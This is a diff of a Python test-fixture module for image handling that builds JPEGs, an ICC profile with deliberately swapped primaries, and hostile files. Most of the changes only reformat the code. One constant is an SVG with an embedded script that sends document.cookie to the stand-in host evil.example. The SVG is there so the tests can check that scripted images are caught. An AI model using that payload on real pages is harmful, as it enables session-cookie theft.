@@ -1,4 +1,5 @@
 """Pictures for the images tests: real encoded photos, and hostile files built byte by byte."""
+
 import io
 import struct
 import zlib
@@ -51,9 +52,11 @@ def jpeg_rotated(orientation: int = 6, width: int = 400, height: int = 300) -> b
     return out.getvalue()
 
 
-SVG_WITH_SCRIPT = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300">'
-                   b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'
-                   b'<rect width="400" height="300" fill="red"/></svg>')
+SVG_WITH_SCRIPT = (
+    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300">'
+    b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'
+    b'<rect width="400" height="300" fill="red"/></svg>'
+)
 HTML_PAGE = b"<!doctype html><html><head><title>Not found</title></head><body>404</body></html>"
 
 
@@ -72,12 +75,27 @@ def swapped_primaries_profile() -> bytes:
     """
     red, green, blue = (0.4361, 0.2225, 0.0139), (0.3851, 0.7169, 0.0971), (0.1431, 0.0606, 0.7141)
     text = b"Swapped primaries (test)"
-    desc = (b"desc\x00\x00\x00\x00" + struct.pack(">I", len(text) + 1) + text + b"\x00"
-            + b"\x00" * 8 + b"\x00\x00\x00" + b"\x00" * 67)
+    desc = (
+        b"desc\x00\x00\x00\x00"
+        + struct.pack(">I", len(text) + 1)
+        + text
+        + b"\x00"
+        + b"\x00" * 8
+        + b"\x00\x00\x00"
+        + b"\x00" * 67
+    )
     curve = b"curv\x00\x00\x00\x00" + struct.pack(">I", 1) + struct.pack(">H", 0x0233) + b"\x00\x00"
-    tags = [(b"desc", desc), (b"wtpt", _xyz(0.9642, 1.0, 0.8249)), (b"rXYZ", _xyz(*blue)),
-            (b"gXYZ", _xyz(*green)), (b"bXYZ", _xyz(*red)), (b"rTRC", curve), (b"gTRC", curve),
-            (b"bTRC", curve), (b"cprt", b"text\x00\x00\x00\x00test\x00")]
+    tags = [
+        (b"desc", desc),
+        (b"wtpt", _xyz(0.9642, 1.0, 0.8249)),
+        (b"rXYZ", _xyz(*blue)),
+        (b"gXYZ", _xyz(*green)),
+        (b"bXYZ", _xyz(*red)),
+        (b"rTRC", curve),
+        (b"gTRC", curve),
+        (b"bTRC", curve),
+        (b"cprt", b"text\x00\x00\x00\x00test\x00"),
+    ]
     offset = 128 + 4 + 12 * len(tags)
     table, data = b"", b""
     for signature, body in tags:
@@ -86,8 +104,19 @@ def swapped_primaries_profile() -> bytes:
         table += signature + struct.pack(">II", offset + len(data), len(body))
         data += body
     size = offset + len(data)
-    header = (struct.pack(">I", size) + b"\x00" * 4 + bytes([2, 0x10, 0, 0]) + b"mntrRGB XYZ "
-              + struct.pack(">6H", 2026, 1, 1, 0, 0, 0) + b"acsp" + b"\x00" * 24
-              + b"\x00" * 4 + _s15(0.9642) + _s15(1.0) + _s15(0.8249) + b"\x00" * 48)
+    header = (
+        struct.pack(">I", size)
+        + b"\x00" * 4
+        + bytes([2, 0x10, 0, 0])
+        + b"mntrRGB XYZ "
+        + struct.pack(">6H", 2026, 1, 1, 0, 0, 0)
+        + b"acsp"
+        + b"\x00" * 24
+        + b"\x00" * 4
+        + _s15(0.9642)
+        + _s15(1.0)
+        + _s15(0.8249)
+        + b"\x00" * 48
+    )
     assert len(header) == 128
     return header + struct.pack(">I", len(tags)) + table + data
